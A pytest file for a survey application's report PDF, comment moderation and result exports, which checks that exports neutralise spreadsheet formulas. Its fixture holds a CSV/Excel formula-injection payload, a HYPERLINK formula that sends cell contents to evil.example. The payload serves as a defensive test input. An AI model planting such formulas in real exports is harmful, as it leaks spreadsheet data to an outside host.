"""The result report PDF, the exports (results and raw answers) and comment moderation."""
import csv
import json
import subprocess

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from survey.db import db
from survey.models import Answer
from survey.models import CommentModeration

from test_results import ResultsTestPlugin, answer

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
UNITS = [("R-1", "城关镇党委", "general"), ("R-2", "西关村党支部", "general"), ("R-3", "=1+1 单位", "rtest")]


@pytest.fixture
def app_config():
    return {"SURVEY_EXTRA_PLUGINS": [("results-test", ResultsTestPlugin())]}


@pytest.fixture
def rated(app, make_campaign):
    """A published campaign showing comments: R-1 under the line, R-2 above, R-3 with a
    formula-like name; one harmless comment and one formula injection."""
    cid = make_campaign(slug="report-2025", units=UNITS, state="published", show_comments=True)
    answer(app, cid, "R-1", 40, "unsatisfied", overrides={"contact": "satisfied"}, comment="办事效率太低")
    answer(app, cid, "R-2", 40, comment=INJECTION)
    answer(app, cid, "R-3", 35, channel="paper", category="service_recipient")
    return cid


def pdf_text(path) -> str:
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True, text=True).stdout


def test_report_pdf_has_units_remedy_list_plugin_section_and_embedded_fonts(app, runner, rated, tmp_path):
    out = tmp_path / "report.pdf"
    result = runner.invoke(args=["report", "report-2025", "--out", str(out)])
    assert result.exit_code == 0, result.output
    text = pdf_text(out)
    assert "城关镇党委" in text and "西关村党支部" in text
    assert "插件专项统计" in text  # the plugin's section
    assert "办事效率太低" in text  # comments shown: the campaign shows them
    fonts = subprocess.run(["pdffonts", str(out)], check=True, capture_output=True, text=True).stdout
    rows = fonts.strip().splitlines()[2:]
    assert rows and all(row.split()[-5] == "yes" for row in rows), fonts  # every font embedded
    english = tmp_path / "report-en.pdf"
    assert runner.invoke(args=["report", "report-2025", "--out", str(english), "--lang", "en"]).exit_code == 0
    text = pdf_text(english)
    remedy = text[text.index("Units that must remedy"):text.index("Rater composition")]
    assert "城关镇党委" in remedy and "西关村党支部" not in remedy  # R-1 is under the line, R-2 is not
    assert "Plugin section" in text


def test_comment_moderation_hides_from_report_but_keeps_counting(app, admin_client, runner, rated, tmp_path):
    page = admin_client.get("/admin/campaigns/report-2025/comments")
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and "办事效率太低" in html
    with app.app_context():
        response_id = db.session.scalar(select(Answer.response_id).where(Answer.text == "办事效率太低").limit(1))
    token = admin_client.csrf("/admin/campaigns/report-2025/comments")
    refused = admin_client.post("/admin/campaigns/report-2025/comments/hide",
                                data={"csrf_token": token, "response_id": response_id, "item": "comment", "reason": ""})
    assert refused.status_code == 303
    with app.app_context():
        assert db.session.scalar(select(CommentModeration)) is None
    hidden = admin_client.post("/admin/campaigns/report-2025/comments/hide", data={
        "csrf_token": token, "response_id": response_id, "item": "comment", "reason": "含个人信息"})
    assert hidden.status_code == 303
    html = admin_client.get("/admin/campaigns/report-2025/comments?unit=R-1").get_data(as_text=True)
    assert "含个人信息" in html and "office" in html
    with app.app_context():
        row = db.session.scalar(select(CommentModeration))
        assert (row.reason, row.hidden_by, row.item) == ("含个人信息", "office", "comment")
    out = tmp_path / "report.pdf"
    assert runner.invoke(args=["report", "report-2025", "--out", str(out)]).exit_code == 0
    text = pdf_text(out)
    assert text.count("办事效率太低") == 39  # one of 40 identical comments hidden, answers still counted
    api = admin_client.get("/api/campaigns/report-2025/results").get_json()
    assert next(u for u in api["units"] if u["code"] == "R-1")["raters"] == 40
    shown = admin_client.post("/admin/campaigns/report-2025/comments/show", data={
        "csrf_token": token, "response_id": response_id, "item": "comment"})
    assert shown.status_code == 303
    with app.app_context():
        assert db.session.scalar(select(CommentModeration)) is None


def test_report_leaves_comments_out_unless_the_campaign_shows_them(app, runner, make_campaign, tmp_path):
    cid = make_campaign(slug="quiet", units=UNITS[:1], state="closed")
    answer(app, cid, "R-1", 5, comment="不公开的意见")
    out = tmp_path / "quiet.pdf"
    assert runner.invoke(args=["report", "quiet", "--out", str(out)]).exit_code == 0
    assert "不公开的意见" not in pdf_text(out) and "城关镇党委" in pdf_text(out)


def test_result_exports_in_three_formats_neutralise_formulas(runner, rated, tmp_path):
    for fmt in ("csv", "xlsx", "json"):
        result = runner.invoke(args=["export", "report-2025", "--format", fmt, "--lang", "en",
                                     "--out", str(tmp_path / f"r.{fmt}")])
        assert result.exit_code == 0, result.output
    assert (tmp_path / "r.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # spreadsheets read it as UTF-8
    with open(tmp_path / "r.csv", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 3  # one row per unit
    r1 = next(r for r in rows if r["Unit code"] == "R-1")
    assert r1["Must remedy"] == "yes" and r1["Unit"] == "城关镇党委" and r1["Raters"] == "40"
    assert r1["Items to remedy"] and "Harmony" not in r1["Items to remedy"].split("、")[0]
    assert any(r["Unit"] == "'=1+1 单位" for r in rows)
    book = load_workbook(tmp_path / "r.xlsx")
    names = [c.value for c in book["Summary"]["C"]]
    assert "'=1+1 单位" in names
    assert all(c.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)
    data = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert data["campaign"]["line"] == pytest.approx(0.7) and data["campaign"]["minimum_sample"] == 30
    r1 = next(u for u in data["units"] if u["code"] == "R-1")
    assert r1["flags"]["must_remedy"] and r1["raters"] == 40 and len(r1["interval"]) == 2
    assert r1["items"][0]["counts"] == {"unsatisfied": 40}


def test_raw_exports_carry_only_anonymous_fields_and_neutralise_formulas(runner, rated, tmp_path):
    for fmt in ("csv", "xlsx", "json"):
        result = runner.invoke(args=["export", "report-2025", "--raw", "--format", fmt, "--out", str(tmp_path / f"raw.{fmt}")])
        assert result.exit_code == 0, result.output
    columns = ["response_id", "unit_code", "category", "channel", "day", "item", "choice", "text"]
    with open(tmp_path / "raw.csv", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == columns and len(rows) == 40 * 11 + 40 * 11 + 35 * 2
    assert {r["text"] for r in rows if r["unit_code"] == "R-2" and r["item"] == "comment"} == {"'" + INJECTION}
    sheet = load_workbook(tmp_path / "raw.xlsx")["data"]
    texts = {c.value for c in sheet["H"] if c.value}
    assert texts >= {"'" + INJECTION, "办事效率太低"} and all(c.data_type != "f" for c in sheet["H"])
    data = json.loads((tmp_path / "raw.json").read_text(encoding="utf-8"))
    assert data["columns"] == columns and all(set(a) == set(columns) for a in data["answers"])
    assert {a["text"] for a in data["answers"] if a["unit_code"] == "R-2" and a["text"]} == {"'" + INJECTION}
